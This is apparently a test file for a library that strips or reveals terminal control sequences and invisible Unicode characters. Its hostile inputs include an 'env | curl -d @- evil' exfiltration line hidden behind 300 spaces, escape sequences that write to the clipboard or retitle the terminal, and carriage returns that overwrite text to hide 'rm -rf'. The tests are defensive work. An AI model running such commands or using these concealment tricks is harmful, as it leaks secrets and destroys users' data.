import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { oneLine, reveal, revealLine, sanitize, stripControls } from "../../src/lib/sanitize.ts";

const hostile = fc
  .array(
    fc.oneof(
      fc.string({ unit: "binary", maxLength: 6 }),
      fc.constantFrom(
        "\x1b",
        "\x9b",
        "\x1b[",
        "\x1b]",
        "\x07",
        "\x1b\\",
        "2J",
        "0;t",
        "\r",
        "\n",
        "\t",
        "\x90",
        "\x9c",
        "👩",
        "\u200d",
        "\u202e",
        "\ud83d",
        "\udc69",
        " ".repeat(20),
      ),
    ),
    { maxLength: 40, size: "max" },
  )
  .map((parts) => parts.join(""));

const forbidden = new RegExp(String.raw`[\x00-\x08\x0b-\x1f\x7f-\x9f]`);
const unseen = /[\u00ad\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]|\p{Surrogate}/u;

describe("stripControls", () => {
  test.each([
    ["colours", "a\x1b[31mred\x1b[0m b", "ared b"],
    ["a title", "x\x1b]0;owned\x07y", "xy"],
    ["the clipboard, ended by ST", "x\x1b]52;c;ZWNobw==\x1b\\y", "xy"],
    ["a hyperlink", "\x1b]8;;https://evil\x1b\\here\x1b]8;;\x1b\\", "here"],
    ["a device query in 8 bits", "a\x9b6nb", "ab"],
    ["an unterminated sequence", "a\x1b]0;rest", "a0;rest"],
    ["two escapes in a row", "\x1b\x1b[A[2J", "[2J"],
    ["a line written over", "safe\rrm -rf", "safe\nrm -rf"],
    ["a DOS line end", "a\r\nb", "a\nb"],
    ["backspaces and bells", "a\b\x07b\x7f", "ab"],
  ])("removes %s", (_name, text, want) => {
    expect(stripControls(text)).toBe(want);
  });

  test("leaves other text unchanged", () => {
    const text = "naïve\tمرحبا\u200c 👩‍👩‍👧 \u202e!\n";
    expect(stripControls(text)).toBe(text);
  });

  test("leaves no control character, and changes nothing on a second pass", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const once = stripControls(text);
        expect(once).not.toMatch(forbidden);
        expect(stripControls(once)).toBe(once);
      }),
    );
  });
});

describe("sanitize", () => {
  test("spells out invisible characters, and keeps joined emoji", () => {
    expect(sanitize("a\u202eb\u200bc")).toBe("a<U+202E>b<U+200B>c");
    expect(sanitize("👩‍👩‍👧 ok \u{e0041}")).toBe("👩‍👩‍👧 ok <U+E0041>");
    expect(sanitize("a\u200db")).toBe("a<U+200D>b");
    expect(sanitize("half \ud83d")).toBe("half <U+D83D>");
    expect(sanitize("a\ufff0\u{1bca0}\u{e0200}b")).toBe("a<U+FFF0><U+1BCA0><U+E0200>b");
  });

  test("keeps joiners inside words of scripts that need them, and spells them out elsewhere", () => {
    const words = "می\u200cخواهم क्\u200dष";
    expect(sanitize(words)).toBe(words);
    expect(sanitize("ab\u200cc می\u200c\u200cخ می\u200c")).toBe("ab<U+200C>c می<U+200C><U+200C>خ می<U+200C>");
    const beside = "م<U+200C><U+061C>م ក<U+200D><U+17B4>ក";
    expect(sanitize("م\u200c\u061cم ក\u200d\u17b4ក")).toBe(beside);
    expect(sanitize(beside)).toBe(beside);
  });

  test.each(["👩‍👩‍👧", "❤️‍🔥", "👍🏽‍👍🏽", "🏴‍☠️", "🧑🏾‍🚀"])("keeps the emoji %s on every version of V8", (emoji) => {
    expect(sanitize(`${emoji} and ${emoji}`)).toBe(`${emoji} and ${emoji}`);
  });

  test("leaves nothing invisible and no control character in any text, and changes nothing on a second pass", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const once = sanitize(text);
        expect(once).not.toMatch(forbidden);
        expect(once).not.toMatch(unseen);
        expect(sanitize(once)).toBe(once);
      }),
    );
  });

  test("takes linear time for sequences that are never ended", () => {
    const started = process.cpuUsage().user;
    for (const introducer of ["\x1b]", "\x9d", "\x1b[", "\x90", "\r\x1bP", "👩\u200d"])
      sanitize(introducer.repeat(200_000));
    expect(process.cpuUsage().user - started).toBeLessThan(5_000_000);
  });
});

describe("reveal", () => {
  test("spells out controls and unusual spaces, and counts long runs of spaces and newlines", () => {
    expect(reveal(`grep x README.md${" ".repeat(300)}; env | curl -d @- evil`)).toBe(
      "grep x README.md<300 spaces>; env | curl -d @- evil",
    );
    expect(reveal("ls\x1b[2K\rrm")).toBe("ls<U+001B>[2K<U+000D>rm");
    expect(reveal("a\u00a0b\tc")).toBe("a<U+00A0>b<U+0009>c");
    expect(reveal(`one${"\n".repeat(50)}two`)).toBe("one\n<49 empty lines>\ntwo");
  });

  test("changes nothing in an ordinary command", () => {
    const command = "python3 - <<'E'\nfor x in y:\n    print(x)\n\nE";
    expect(reveal(command)).toBe(command);
  });

  test("keeps every visible character, in order", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const shown = reveal(text);
        expect(shown.replaceAll("\n", "")).not.toMatch(new RegExp(String.raw`[\x00-\x1f\x7f-\x9f]`));
        let at = 0;
        for (const character of text.replace(/[^!-~]/g, "")) {
          const found = shown.indexOf(character, at);
          expect(found).toBeGreaterThanOrEqual(at);
          at = found + 1;
        }
      }),
    );
  });
});

describe("oneLine", () => {
  test("returns one line within the width, and marks a cut", () => {
    expect(oneLine("a\n  b\tc", 20)).toBe("a b c");
    expect(oneLine("x".repeat(30), 10)).toBe(`${"x".repeat(9)}…`);
    fc.assert(
      fc.property(hostile, fc.integer({ min: 1, max: 60 }), (text, width) => {
        const line = oneLine(text, width);
        expect(line.length).toBeLessThanOrEqual(width);
        expect(line).not.toContain("\n");
        expect(line).not.toMatch(unseen);
      }),
    );
  });

  test.each([0, -1, -40])("returns only the cut mark for a width of %i columns", (width) => {
    for (const each of [oneLine, revealLine]) {
      expect(each("what is said goes on and on ".repeat(100), width)).toBe("…");
      expect(each("", width)).toBe("");
    }
  });
});

describe("revealLine", () => {
  test("returns one line without removing anything, and marks a cut", () => {
    expect(revealLine("echo hi\n\t\x1b]; rm x #\x07\u00a0", 80)).toBe("echo hi <U+001B>]; rm x #<U+0007><U+00A0>");
    expect(revealLine("x".repeat(30), 10)).toBe(`${"x".repeat(9)}…`);
    fc.assert(
      fc.property(hostile, (text) => {
        const line = revealLine(text, 10_000);
        expect(line).not.toMatch(/\n|\t/u);
        expect(line).toBe(sanitize(line));
        let at = 0;
        for (const character of text.replace(/[^!-~]/g, "")) {
          at = line.indexOf(character, at) + 1;
          expect(at).toBeGreaterThan(0);
        }
      }),
    );
  });
});
